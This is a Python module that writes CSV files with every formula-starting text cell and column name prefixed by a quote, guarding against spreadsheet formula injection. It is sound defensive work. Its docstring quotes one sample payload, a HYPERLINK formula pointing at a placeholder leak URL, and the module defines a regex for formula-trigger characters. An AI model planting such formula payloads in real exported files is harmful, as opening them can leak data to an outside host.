"""Writing CSV files for people: the one place the workbench writes a CSV someone may open in a
spreadsheet, so that no cell can run as a formula.

Formula injection (OWASP, "CSV Injection"): a spreadsheet reads a cell whose text starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a formula, so a value such as
``=HYPERLINK("http://x.invalid/?leak","click me")`` becomes a live link when the file is opened.
Every such text cell, and every such column name, is written with a single quote ``'`` in
front, which spreadsheets show as text and never evaluate.

Rules (measures.md section 7 governs what the figures may show; this module only how they are
written):

- Numeric, boolean and date columns are written as they are: ``-3.5`` in a number column is a
  number, not a formula.
- A text cell (in a text, categorical or mixed column) starting with one of the six characters
  gets the quote, except a text cell that is wholly a plain number (``-3``, ``+4.5``,
  ``-1e-3``), which no spreadsheet can run and which is left as it is.
- An optional ``comment`` is written as a first line starting with ``# `` (used to say, for
  example, that disclosure control was off); its line breaks become spaces.
- Lines end with CR LF (RFC 4180), so a cell holding a line break or carriage return is
  quoted; the file is written whole or not at all (a temporary file, then a rename).
"""

from __future__ import annotations

import io
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

from workbench.atomic import write_atomic

#: A text value a spreadsheet would read as a formula (OWASP's list of leading characters).
FORMULA_START = r"^[=+\-@\t\r]"
#: A text value that is wholly a plain number, and so cannot be a formula.
PLAIN_NUMBER = r"^[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?$"


def inert_text(values: pa.Array) -> pa.Array:
    """``values`` (text) with a ``'`` put in front of every value a spreadsheet would run."""
    values = values.cast(pa.string())
    risky = pc.and_(
        pc.match_substring_regex(values, FORMULA_START),
        pc.invert(pc.match_substring_regex(values, PLAIN_NUMBER)),
    )
    quoted = pc.binary_join_element_wise(pa.scalar("'"), values, "")
    return pc.if_else(pc.fill_null(risky, False), quoted, values)


def _is_text(column: pd.Series) -> bool:
    return not (
        pd.api.types.is_numeric_dtype(column.dtype)
        or pd.api.types.is_bool_dtype(column.dtype)
        or pd.api.types.is_datetime64_any_dtype(column.dtype)
        or pd.api.types.is_timedelta64_dtype(column.dtype)
    )


def inert_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell and every column name made inert (module
    docstring); numeric, boolean and date columns are untouched."""
    out = frame.copy()
    for name in out.columns:
        column = out[name]
        if _is_text(column):
            text = pa.array(column.astype("string"), type=pa.string(), from_pandas=True)
            out[name] = pd.Series(
                inert_text(text).to_pandas(), index=column.index, dtype=object
            ).where(column.notna(), None)
    names = pa.array([str(n) for n in out.columns], pa.string())
    out.columns = inert_text(names).to_pylist()
    return out


def write_csv(frame: pd.DataFrame, path: str | Path, *, comment: str | None = None) -> Path:
    """Write ``frame`` to ``path`` as UTF-8 CSV without its index, every text cell and column
    name made inert, after an optional ``# comment`` first line; returns ``path``."""
    buffer = io.StringIO()
    if comment is not None:
        buffer.write("# " + " ".join(str(comment).splitlines()) + "\r\n")
    inert_frame(frame).to_csv(buffer, index=False, lineterminator="\r\n")
    return write_atomic(Path(path), buffer.getvalue())
